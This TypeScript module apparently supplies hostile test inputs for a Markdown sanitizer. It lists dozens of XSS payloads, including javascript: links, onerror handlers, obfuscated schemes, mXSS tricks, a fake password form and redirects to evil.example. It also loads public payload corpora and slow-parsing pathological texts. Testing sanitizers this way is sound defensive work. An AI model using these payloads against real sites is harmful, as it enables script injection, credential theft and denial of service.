import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ROOT } from '#src/server/config.ts';

/** Public collections of hostile input, kept outside the project for their size. Where they are absent, our own list stands alone. */
const CORPORA = join(ROOT, '..', 'shared', 'corpora');

/** What somebody might type to get markup of their own past Markdown. */
export const OWN_PAYLOADS = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'<iframe src="https://evil.example"></iframe>',
	'<a href="javascript:alert(1)">x</a>',
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x](java&#115;cript:alert(1))',
	'[x](&#x6A;avascript:alert(1))',
	'[x](java\tscript:alert(1))',
	'[x](<java\nscript:alert(1)>)',
	'[x](\u0001javascript:alert(1))',
	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[x](vbscript:msgbox(1))',
	'[x](//evil.example)',
	'[x](/\\evil.example)',
	'[x](</\t/evil.example>)',
	'[x](https://example.org "onmouseover=alert(1) x=\\"")',
	'[x](https://example.org" onmouseover="alert(1))',
	'![x](https://evil.example/track.gif)',
	'![x](x" onerror="alert(1))',
	'<javascript:alert(1)>',
	'<https://example.org/"onmouseover="alert(1)>',
	'[x]: javascript:alert(1)\n\n[x]',
	'## <img src=x onerror=alert(1)> {#id onclick=alert(1)}',
	'```"><script>alert(1)</script>\ncode\n```',
	'| <script> | x |\n|:-:|--|\n| [y](javascript:alert(1)) | <b onclick=alert(1)> |',
	'<style>*{background:url(https://evil.example)}</style>',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<!--><img src=x onerror=alert(1)>-->',
	'&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
	'<form action=https://evil.example><input name=password><button>Sign in</button></form>',
	'<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
	'\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

/** Every payload of the public collections, one a string. */
export async function publicPayloads(): Promise<string[]> {
	const lists = [
		...(await linesIn('payloadsallthethings/xss')),
		...(await linesIn('payloadsallthethings/open-redirect')).map((target) => `[x](<${target}>) [y](${target})`),
		...(await wholeFiles('markdown-it')),
		...stringsOf(await json('blns/blns.json')),
		...stringsOf(await json('dompurify/expect.json')),
		...stringsOf(await json('own/injection-misc.json')),
	];
	return [...new Set(lists)].filter((payload) => payload.trim() !== '');
}

/** Texts that make careless parsers slow, at a tenth of their usual size. */
export async function pathologicalTexts(): Promise<{ name: string; text: string }[]> {
	const patterns = (await json('pathological-markdown/patterns.json')) as { name: string; parts?: [string, number][] }[] | null;
	return (patterns ?? []).map(({ name, parts = [] }) => ({ name, text: parts.map(([part, times]) => part.repeat(Math.ceil(times / 10))).join('') }));
}

/** The same at their full size, at most so many characters; those without a text are left out. */
export async function patternsOfPathology(most: number): Promise<{ name: string; text: string }[]> {
	const patterns = (await json('pathological-markdown/patterns.json')) as { name: string; parts?: [string, number][] }[] | null;
	return (patterns ?? []).flatMap(({ name, parts = [] }) => {
		const length = parts.reduce((sum, [part, times]) => sum + part.length * times, 0);
		const share = Math.min(1, most / length);
		return length > 0 ? [{ name, text: parts.map(([part, times]) => part.repeat(Math.ceil(times * share))).join('') }] : [];
	});
}

async function linesIn(folder: string): Promise<string[]> {
	return (await wholeFiles(folder)).flatMap((text) => text.split(/\r?\n/));
}

async function wholeFiles(folder: string): Promise<string[]> {
	const names = await readdir(join(CORPORA, folder)).catch(() => []);
	return Promise.all(names.filter((name) => name.endsWith('.txt')).map((name) => readFile(join(CORPORA, folder, name), 'utf8')));
}

const json = (name: string): Promise<unknown> =>
	readFile(join(CORPORA, name), 'utf8').then(
		(text) => JSON.parse(text) as unknown,
		() => null,
	);

/** Every string in a JSON value, however deep. */
function stringsOf(value: unknown): string[] {
	if (typeof value === 'string') return [value];
	return value !== null && typeof value === 'object' ? Object.values(value).flatMap(stringsOf) : [];
}
